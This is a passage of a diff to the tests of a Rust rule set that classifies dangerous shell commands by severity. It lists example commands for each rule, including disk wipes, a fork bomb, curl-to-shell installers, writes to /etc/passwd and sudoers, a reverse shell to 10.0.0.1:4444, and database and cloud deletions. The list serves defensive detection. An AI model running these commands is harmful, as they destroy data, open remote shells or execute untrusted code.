-        "sudo dd if=/dev/zero of=/dev/nvme0n1"
-    );
-    rule!(
-        rule_redirect_to_disk,
-        "redirect-to-disk",
-        Critical,
-        "cat image.img > /dev/sda",
-        "echo hi >/dev/nvme0"
-    );
-    rule!(
-        rule_mkfs,
-        "mkfs",
-        Critical,
-        "mkfs.ext4 /dev/sdb1",
-        "sudo mkfs -t xfs /dev/vdb"
-    );
-    rule!(
-        rule_wipe_disk,
-        "wipe-disk",
-        Critical,
-        "wipefs -a /dev/sdb",
-        "shred -n 3 /dev/sda"
-    );
-    rule!(
-        rule_fork_bomb,
-        "fork-bomb",
-        Critical,
-        ":(){ :|:& };:",
-        "bomb() { bomb | bomb & }; bomb"
-    );
-    rule!(
-        rule_curl_pipe_sudo_shell,
-        "curl-pipe-sudo-shell",
-        Critical,
-        "curl -fsSL https://example.com/install.sh | sudo bash",
-        "wget -qO- https://x.io/i | sudo -E sh"
-    );
-    rule!(
-        rule_overwrite_auth_files,
-        "overwrite-auth-files",
-        Critical,
-        "echo 'root::0:0::/root:/bin/sh' > /etc/passwd",
-        "echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers"
-    );
-    rule!(
-        rule_sysrq_trigger,
-        "sysrq-trigger",
-        Critical,
-        "echo c > /proc/sysrq-trigger"
-    );
-    rule!(
-        rule_rm_recursive_wildcard,
-        "rm-recursive-wildcard",
-        High,
-        "rm -rf *",
-        "rm -rf .",
-        "rm -r ../"
-    );
-    rule!(
-        rule_rm_recursive_variable,
-        "rm-recursive-variable",
-        High,
-        "rm -rf \"$STEAMROOT/\"*",
-        "rm -rf $BUILD_DIR/"
-    );
-    rule!(
-        rule_curl_pipe_shell,
-        "curl-pipe-shell",
-        High,
-        "curl -fsSL https://get.example.sh | sh",
-        "wget -qO- https://x.io/i | bash -s -- --yes",
-        "curl https://x.io/setup.py | python3 -"
-    );
-    rule!(
-        rule_shell_eval_remote,
-        "shell-eval-remote",
-        High,
-        "sh -c \"$(curl -fsSL https://x.io/install.sh)\"",
-        "bash <(curl -s https://x.io/i)",
-        "eval \"$(wget -qO- https://x.io/env)\""
-    );
-    rule!(
-        rule_chmod_recursive_system,
-        "chmod-recursive-system",
-        High,
-        "chmod -R 777 /",
-        "sudo chmod -R 755 /etc"
-    );
-    rule!(
-        rule_chown_recursive_system,
-        "chown-recursive-system",
-        High,
-        "sudo chown -R me:me /",
-        "chown -R nobody /usr"
-    );
-    rule!(
-        rule_partition_table,
-        "partition-table",
-        High,
-        "sudo fdisk /dev/sda",
-        "parted /dev/nvme0n1 mklabel gpt"
-    );
-    rule!(
-        rule_mkswap_device,
-        "mkswap-device",
-        High,
-        "mkswap /dev/sdb2"
-    );
-    rule!(
-        rule_kill_all_processes,
-        "kill-all-processes",
-        High,
-        "kill -9 -1",
-        "kill -KILL -1"
-    );
-    rule!(
-        rule_sql_drop,
-        "sql-drop",
-        High,
-        "psql -c 'DROP DATABASE prod'",
-        "mysql -e \"drop table users\""
-    );
-    rule!(
-        rule_sql_truncate,
-        "sql-truncate",
-        High,
-        "psql -c 'TRUNCATE TABLE orders'"
-    );
-    rule!(
-        rule_sql_delete_without_where,
-        "sql-delete-without-where",
-        High,
-        "sqlite3 app.db 'DELETE FROM users;'",
-        "psql -c \"delete from sessions\""
-    );
-    rule!(
-        rule_datastore_flush,
-        "datastore-flush",
-        High,
-        "redis-cli FLUSHALL",
-        "mongo app --eval 'db.dropDatabase()'"
-    );
-    rule!(
-        rule_kubectl_delete_broad,
-        "kubectl-delete-broad",
-        High,
-        "kubectl delete namespace prod",
-        "kubectl delete pods --all",
-        "kubectl -n x delete ns staging"
-    );
-    rule!(
-        rule_terraform_destroy,
-        "terraform-destroy",
-        High,
-        "terraform destroy",
-        "tofu apply -destroy"
-    );
-    rule!(
-        rule_cloud_storage_delete,
-        "cloud-storage-delete",
-        High,
-        "aws s3 rm s3://bucket --recursive",
-        "aws s3 rb s3://bucket --force",
-        "gsutil -m rm -r gs://b"
-    );
-    rule!(
-        rule_repo_delete,
-        "repo-delete",
-        High,
-        "gh repo delete me/project --yes"
-    );
-    rule!(
-        rule_firewall_flush,
-        "firewall-flush",
-        High,
-        "sudo iptables -F",
-        "nft flush ruleset",
-        "ufw disable"
-    );
-    rule!(
-        rule_ssh_service_stop,
-        "ssh-service-stop",
-        High,
-        "sudo systemctl stop sshd",
-        "systemctl disable --now ssh"
-    );
-    rule!(rule_crontab_remove, "crontab-remove", High, "crontab -r");
-    rule!(
-        rule_reverse_shell,
-        "reverse-shell",
-        High,
-        "nc -e /bin/sh 10.0.0.1 4444",
-        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
-    );
-    rule!(
-        rule_passwd_delete,
-        "passwd-delete",
-        High,
-        "sudo passwd -d root"
-    );
-    rule!(
-        rule_mv_to_dev_null,
-        "mv-to-dev-null",
-        High,
-        "mv important.db /dev/null"
-    );
-    rule!(
-        rule_mv_root_or_home,
-        "mv-root-or-home",
-        High,
-        "mv ~ /tmp/old-home",
-        "sudo mv / /mnt"
-    );
-    rule!(
-        rule_find_delete_root,
-        "find-delete-root",
-        High,
-        "find / -name '*.log' -delete",
-        "find ~ -type f -exec rm {} +"
-    );
-    rule!(
-        rule_rm_recursive,
-        "rm-recursive",
-        Moderate,
-        "rm -rf node_modules",
-        "rm -r build/",
-        "sudo rm -rf /tmp/cache"
-    );
-    rule!(
-        rule_find_delete,
-        "find-delete",
-        Moderate,
-        "find . -name '*.pyc' -delete"
-    );
-    rule!(
-        rule_chmod_world_writable,
-        "chmod-world-writable",
-        Moderate,
-        "chmod 777 uploads",
-        "chmod o+w file"
-    );
-    rule!(
-        rule_chmod_setuid,
-        "chmod-setuid",
-        Moderate,
-        "chmod u+s /usr/local/bin/tool",
-        "chmod 4755 tool"
-    );
-    rule!(
-        rule_git_force_push,
-        "git-force-push",
-        Moderate,
-        "git push --force",
-        "git push -f origin main",
-        "git push origin +main"
-    );
-    rule!(
-        rule_git_push_delete,
-        "git-push-delete",
-        Moderate,
-        "git push origin --delete old",
-        "git push origin :old"
-    );
-    rule!(
-        rule_git_reset_hard,
-        "git-reset-hard",
-        Moderate,
-        "git reset --hard",
-        "git reset HEAD~3 --hard"
-    );
-    rule!(
-        rule_git_clean_force,
-        "git-clean-force",
-        Moderate,
-        "git clean -fdx",
-        "git clean -d -f"
-    );
-    rule!(
-        rule_git_discard_worktree,
-        "git-discard-worktree",
-        Moderate,
-        "git checkout -- .",
-        "git restore ."
-    );
-    rule!(
-        rule_git_branch_force_delete,
-        "git-branch-force-delete",
-        Moderate,
-        "git branch -D feature"
-    );
-    rule!(
-        rule_git_history_rewrite,
-        "git-history-rewrite",
-        Moderate,
-        "git filter-branch --tree-filter 'rm x' HEAD",
-        "git stash clear"
-    );
-    rule!(
-        rule_docker_prune,
-        "docker-prune",
-        Moderate,
-        "docker system prune -a",
-        "docker compose down -v"
-    );
-    rule!(
-        rule_docker_privileged,
-        "docker-privileged",
-        Moderate,
-        "docker run --privileged -it ubuntu",
-        "docker run -v /:/host alpine"
-    );
-    rule!(
-        rule_kubectl_delete,
-        "kubectl-delete",
-        Moderate,
-        "kubectl delete pod web-1"
-    );
-    rule!(
-        rule_terraform_auto_approve,
-        "terraform-auto-approve",
-        Moderate,
-        "terraform apply -auto-approve"
-    );
-    rule!(
-        rule_shutdown_reboot,
-        "shutdown-reboot",
-        Moderate,
-        "sudo reboot",
-        "shutdown -h now",
-        "systemctl poweroff"
-    );
-    rule!(
-        rule_truncate_file,
-        "truncate-file",
-        Moderate,
-        "truncate -s 0 app.log"
-    );
-    rule!(
-        rule_overwrite_dotfile,
-        "overwrite-dotfile",
-        Moderate,
-        "echo 'x' > ~/.bashrc"
-    );
-    rule!(
-        rule_clear_shell_history,
-        "clear-shell-history",
-        Moderate,
-        "history -c",
-        "cat /dev/null > ~/.bash_history"
-    );
-    rule!(
-        rule_publish_package,
-        "publish-package",
-        Moderate,
-        "npm publish",
-        "cargo publish --allow-dirty"
-    );
-    rule!(
-        rule_selinux_disable,
-        "selinux-disable",
-        Moderate,
-        "sudo setenforce 0"
-    );
-    rule!(
-        rule_user_delete,
-        "user-delete",
-        Moderate,
-        "sudo userdel -r bob"
-    );
-    rule!(
-        rule_curl_insecure,
-        "curl-insecure",
-        Moderate,
-        "curl -k https://internal",
-        "wget --no-check-certificate https://x"
-    );
-
+    /// Every rule decides each of its examples, at its own level, and
+    /// leaves each of its near misses alone.
     #[test]
-    fn every_rule_has_a_test() {
-        let source = include_str!("rules.rs");
-        for rule in RULES {
-            let needle = format!("\"{}\",", rule.id);
+    fn every_rule_decides_its_examples_and_not_its_near_misses() {
+        assert!(RULES.len() >= 40, "the issue asks for at least 40 rules");
+        let mut failures = Vec::new();
+        for (index, rule) in RULES.iter().enumerate() {
             assert!(
-                source.matches(&needle).count() >= 2,
-                "rule {} has no rule!(...) test",
+                !rule.examples.is_empty(),
+                "rule {} has no examples",
                 rule.id
             );
+            assert!(
+                !rule.near_misses.is_empty(),
+                "rule {} has no near misses",
+                rule.id
+            );
+            for example in rule.examples {
+                let a = assess(example);
+                if !a.rule_ids.contains(&rule.id) || a.level != rule.level {
+                    failures.push(format!(
+                        "{}: {example:?} should be {} by it, got {} by {:?}",
+                        rule.id, rule.level, a.level, a.rule_ids
+                    ));
+                }
+            }
+            for near_miss in rule.near_misses {
+                if rule_set().matches(near_miss.as_bytes()).contains(&index) {
+                    failures.push(format!("{}: {near_miss:?} should not match", rule.id));
+                }
+            }
         }
-        assert!(RULES.len() >= 40, "the issue asks for at least 40 rules");
+        assert!(failures.is_empty(), "{}", failures.join("\n"));
     }
 
     #[test]
